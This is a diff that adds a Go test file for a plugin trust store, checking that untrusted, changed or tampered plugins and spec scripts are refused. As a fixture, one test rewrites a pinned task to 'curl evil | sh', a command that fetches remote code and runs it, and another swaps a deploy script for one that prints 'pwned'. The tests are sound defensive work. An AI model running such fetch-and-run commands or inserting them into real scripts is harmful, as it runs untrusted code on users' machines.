@@ -0,0 +1,245 @@
+package core
+
+import (
+	"os"
+	"os/exec"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+)
+
+func TestLoadPluginsSkipsUntrustedLocalPlugins(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("skipping shell script test on windows")
+	}
+	base := t.TempDir()
+	os.Setenv("XDG_CONFIG_HOME", filepath.Join(base, "config"))
+	defer os.Unsetenv("XDG_CONFIG_HOME")
+
+	repo := filepath.Join(base, "repo")
+	localBin, err := newPathConfig(repo).localBin()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(localBin, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	marker := filepath.Join(base, "described")
+	plugin := filepath.Join(localBin, "plugin")
+	script := "#!/bin/sh\n" +
+		"touch \"" + marker + "\"\n" +
+		"echo '{\"schemaVersion\":1,\"plugin\":{\"id\":\"p\"},\"tasks\":[{\"name\":\"t\"}]}'\n"
+	if err := os.WriteFile(plugin, []byte(script), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	plugins, _, err := LoadPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plugins) != 0 || exists(marker) {
+		t.Fatal("expected untrusted plugin not to be executed")
+	}
+	untrusted, err := UntrustedPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(untrusted) != 1 || untrusted[0].Reason != untrustedRepo {
+		t.Fatalf("unexpected untrusted plugins: %+v", untrusted)
+	}
+
+	if _, err := TrustRepo(repo); err != nil {
+		t.Fatal(err)
+	}
+	plugins, _, err = LoadPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(plugins) != 1 {
+		t.Fatalf("expected trusted plugin to load, got %d", len(plugins))
+	}
+
+	if err := os.WriteFile(plugin, []byte(script+"# changed\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	untrusted, err = UntrustedPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(untrusted) != 1 || untrusted[0].Reason != untrustedChanged {
+		t.Fatalf("expected changed plugin to be untrusted, got %+v", untrusted)
+	}
+
+	if err := RevokeTrust(repo); err != nil {
+		t.Fatal(err)
+	}
+	untrusted, err = UntrustedPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(untrusted) != 1 || untrusted[0].Reason != untrustedRepo {
+		t.Fatalf("expected revoked repo to be untrusted, got %+v", untrusted)
+	}
+}
+
+func TestVerifyTrustAndSpecExecPinning(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("skipping shell script test on windows")
+	}
+	base := t.TempDir()
+	os.Setenv("XDG_CONFIG_HOME", filepath.Join(base, "config"))
+	defer os.Unsetenv("XDG_CONFIG_HOME")
+
+	repo := filepath.Join(base, "repo")
+	paths := newPathConfig(repo)
+	localSpecs, err := paths.localSpecs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	localBin, err := paths.localBin()
+	if err != nil {
+		t.Fatal(err)
+	}
+	scriptsDir := filepath.Join(repo, "scripts")
+	for _, dir := range []string{localSpecs, localBin, scriptsDir} {
+		if err := os.MkdirAll(dir, 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	script := filepath.Join(scriptsDir, "deploy.sh")
+	if err := os.WriteFile(script, []byte("#!/bin/sh\necho deploy\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	spec := `{"schemaVersion":1,"plugin":{"id":"s","exec":"scripts/deploy.sh"},"tasks":[{"name":"deploy"}]}`
+	if err := os.WriteFile(filepath.Join(localSpecs, "s.json"), []byte(spec), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	oldPlugin := filepath.Join(localBin, "old")
+	if err := os.WriteFile(oldPlugin, []byte("#!/bin/sh\nexit 1\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	report, err := VerifyTrust(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if report.Trusted {
+		t.Fatal("expected repo not to be trusted yet")
+	}
+	if _, err := TrustRepo(repo); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := os.WriteFile(script, []byte("#!/bin/sh\necho pwned\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Remove(oldPlugin); err != nil {
+		t.Fatal(err)
+	}
+	newPlugin := filepath.Join(localBin, "new")
+	if err := os.WriteFile(newPlugin, []byte("#!/bin/sh\nexit 1\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+
+	report, err = VerifyTrust(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(report.Changed) != 1 || report.Changed[0] != script {
+		t.Fatalf("expected changed spec exec, got %+v", report)
+	}
+	if len(report.New) != 1 || report.New[0] != newPlugin {
+		t.Fatalf("expected new plugin, got %+v", report)
+	}
+	if len(report.Removed) != 1 || report.Removed[0] != oldPlugin {
+		t.Fatalf("expected removed plugin, got %+v", report)
+	}
+
+	plugins, _, err := LoadPlugins(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, plugin := range plugins {
+		if plugin.Manifest.Plugin.ID == "s" {
+			t.Fatal("expected spec with changed exec to be refused")
+		}
+	}
+}
+
+func TestSpecTrustPinsContent(t *testing.T) {
+	if runtime.GOOS == "windows" {
+		t.Skip("skipping shell script test on windows")
+	}
+	base := t.TempDir()
+	os.Setenv("XDG_CONFIG_HOME", filepath.Join(base, "config"))
+	defer os.Unsetenv("XDG_CONFIG_HOME")
+
+	repo := filepath.Join(base, "repo")
+	localSpecs, err := newPathConfig(repo).localSpecs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(localSpecs, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	specPath := filepath.Join(localSpecs, "s.json")
+	spec := `{"schemaVersion":2,"plugin":{"id":"s","exec":"sh"},"tasks":[{"name":"build","script":"echo build"}]}`
+	if err := os.WriteFile(specPath, []byte(spec), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	loaded := func() bool {
+		t.Helper()
+		plugins, _, err := LoadPlugins(repo)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, plugin := range plugins {
+			if plugin.Manifest.Plugin.ID == "s" {
+				return true
+			}
+		}
+		return false
+	}
+
+	if loaded() {
+		t.Fatal("expected spec of an untrusted repo to be skipped")
+	}
+	pinned, err := TrustRepo(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !loaded() {
+		t.Fatal("expected spec of a trusted repo to load")
+	}
+	store, err := LoadTrustStore()
+	if err != nil {
+		t.Fatal(err)
+	}
+	sums := store.Repos[trustKey(repo)].Plugins
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if sums[sh] != "path:"+sh {
+		t.Fatalf("expected system program pinned by path, got %v", pinned)
+	}
+	if _, ok := sums[specPath+"#build"]; !ok {
+		t.Fatalf("expected script body pinned, got %v", pinned)
+	}
+
+	edited := strings.Replace(spec, "echo build", "curl evil | sh", 1)
+	if err := os.WriteFile(specPath, []byte(edited), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if loaded() {
+		t.Fatal("expected edited spec to be refused")
+	}
+	report, err := VerifyTrust(repo)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Join(report.Changed, ",") != specPath+","+specPath+"#build" {
+		t.Fatalf("expected spec and script changed, got %+v", report)
+	}
+}